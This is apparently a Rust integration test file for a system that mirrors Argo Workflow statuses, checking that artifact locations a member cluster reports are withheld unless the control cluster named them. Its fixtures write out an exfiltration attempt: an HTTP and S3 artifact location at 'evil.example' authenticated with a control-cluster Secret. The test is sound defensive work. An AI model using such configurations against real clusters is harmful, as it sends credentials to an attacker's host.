//! Artifact locations. argo-server reads an artifact with the Secrets of the Workflow's namespace,
//! so a location that a member reports is shown only if somebody on the control cluster has named
//! it.

use anyhow::Result;
use argosy_api::Workflow;
use argosy_tests::testenv::{
    Fixture, Member,
    definitions::install_argo_templates,
    fake_argo,
    objects::{condition, create, create_template, phase, says, workflow},
    waiting::until,
};
use serde_json::{Value, json};

const SECRET: &str = "a-secret-of-the-control-cluster";

/// A location that would make argo-server send that Secret away.
fn leak() -> Value {
    let secret = json!({ "name": SECRET, "key": "password" });
    json!({ "http": {
        "url": "https://evil.example/", "auth": { "basicAuth": { "usernameSecret": secret, "passwordSecret": secret } },
    } })
}

fn artifact(location: &Value) -> Value {
    let mut artifact = json!({ "name": "main-logs" });
    for (name, value) in location.as_object().into_iter().flatten() {
        artifact[name] = value.clone();
    }
    artifact
}

/// A running Workflow whose step has an artifact at `location`.
fn running(name: &str, location: &Value) -> Value {
    let mut status = fake_argo::running(name);
    let node = &mut status["nodes"][format!("{name}-1")];
    node["templateName"] = json!("step");
    node["outputs"] = json!({ "artifacts": [artifact(location)] });
    status
}

/// The artifact in the mirrored status.
fn shown(workflow: &Workflow, name: &str) -> Value {
    let status = workflow.status.clone().unwrap_or_default();
    status["nodes"][format!("{name}-1")]["outputs"]["artifacts"][0].clone()
}

async fn until_running(fixture: &Fixture, name: &str) -> Result<Workflow> {
    until(&fixture.workflows(), name, "its status is shown", |workflow| {
        phase(workflow) == "Running"
    })
    .await
}

#[tokio::test]
async fn a_member_has_no_secret_of_the_control_cluster_sent_to_an_address_of_its_choice() -> Result<()> {
    let fixture = Fixture::new("artifacts-leak").await?;
    let member = fixture.pull().await?;
    fixture.dispatch("leak", &member).await?;
    let mut status = running("leak", &leak());
    status["outputs"] = json!({ "artifacts": [artifact(&leak())] });
    status["artifactRepositoryRef"] = json!({
        "default": true, "artifactRepository": { "s3": {
            "endpoint": "evil.example", "bucket": "b", "accessKeySecret": { "name": SECRET, "key": "a" },
        } },
    });
    let template = json!({ "name": "step", "archiveLocation": leak() });
    status["storedTemplates"] = json!({ "local/step": template });
    status["storedWorkflowTemplateSpec"] = json!({ "templates": [template] });
    member.argo().report("leak", status).await?;
    let there = until_running(&fixture, "leak").await?;
    assert!(
        says(&there, "StatusComplete", "False", "LocationsWithheld"),
        "{there:?}"
    );
    let text = serde_json::to_string(&there.status)?;
    assert!(!text.contains(SECRET) && !text.contains("evil.example"), "{text}");
    assert_eq!(shown(&there, "leak"), json!({ "name": "main-logs" }));
    // The rest of the status is shown, and so is the next status without such locations.
    let there = there.status.unwrap_or_default();
    assert_eq!(there["artifactRepositoryRef"], json!({ "default": true }));
    let key = json!({ "s3": { "key": "leak/main.log" } });
    member.argo().report("leak", running("leak", &key)).await?;
    let there = until(&fixture.workflows(), "leak", "nothing is withheld", |workflow| {
        condition(workflow, "StatusComplete", "False").is_none()
    })
    .await?;
    assert_eq!(shown(&there, "leak"), artifact(&key));
    Ok(())
}

/// The location that the template names; each run has its own key there.
fn elsewhere(key: &str) -> Value {
    let secret = json!({ "name": "team", "key": "k" });
    json!({ "s3": {
        "endpoint": "team.example", "bucket": "team", "accessKeySecret": secret, "secretKeySecret": secret, "key": key,
    } })
}

async fn comes_from_a_template(fixture: &Fixture, member: &Member) -> Result<()> {
    let mut workflow = workflow("team", &member.cluster);
    workflow.spec["workflowTemplateRef"] = json!({ "name": "team" });
    create(&fixture.workflows(), &workflow).await?;
    until(&member.workflows(), "team", "it is on the cluster", |_| true).await?;
    let mut status = running("team", &elsewhere("team/main.log"));
    let template = json!({ "name": "step", "archiveLocation": elsewhere("{{workflow.name}}/{{pod.name}}") });
    status["storedWorkflowTemplateSpec"] = json!({ "templates": [template] });
    member.argo().report("team", status.clone()).await?;
    let there = until_running(fixture, "team").await?;
    assert_eq!(shown(&there, "team"), artifact(&elsewhere("team/main.log")));
    assert_eq!(
        there.status.clone().unwrap_or_default()["storedWorkflowTemplateSpec"],
        status["storedWorkflowTemplateSpec"]
    );
    assert_eq!(condition(&there, "StatusComplete", "False"), None);
    // A location that nobody has named.
    let mut other = elsewhere("team/main.log");
    other["s3"]["endpoint"] = json!("evil.example");
    member.argo().report("team", running("team", &other)).await?;
    let there = until(&fixture.workflows(), "team", "it says so", |workflow| {
        says(workflow, "StatusComplete", "False", "LocationsWithheld")
    })
    .await?;
    assert_eq!(shown(&there, "team"), json!({ "name": "main-logs" }));
    Ok(())
}

#[tokio::test]
async fn what_a_template_of_the_control_cluster_names_is_shown_as_before() -> Result<()> {
    let fixture = Fixture::new("artifacts-template").await?;
    let member = fixture.pull().await?;
    for client in [&fixture.control, &member.wec] {
        install_argo_templates(client).await?;
        let template =
            json!({ "name": "step", "archiveLocation": elsewhere("{{workflow.name}}/{{pod.name}}") });
        create_template(
            client,
            &fixture.namespace,
            "team",
            &json!({ "templates": [template] }),
        )
        .await?;
    }
    comes_from_a_template(&fixture, &member).await
}
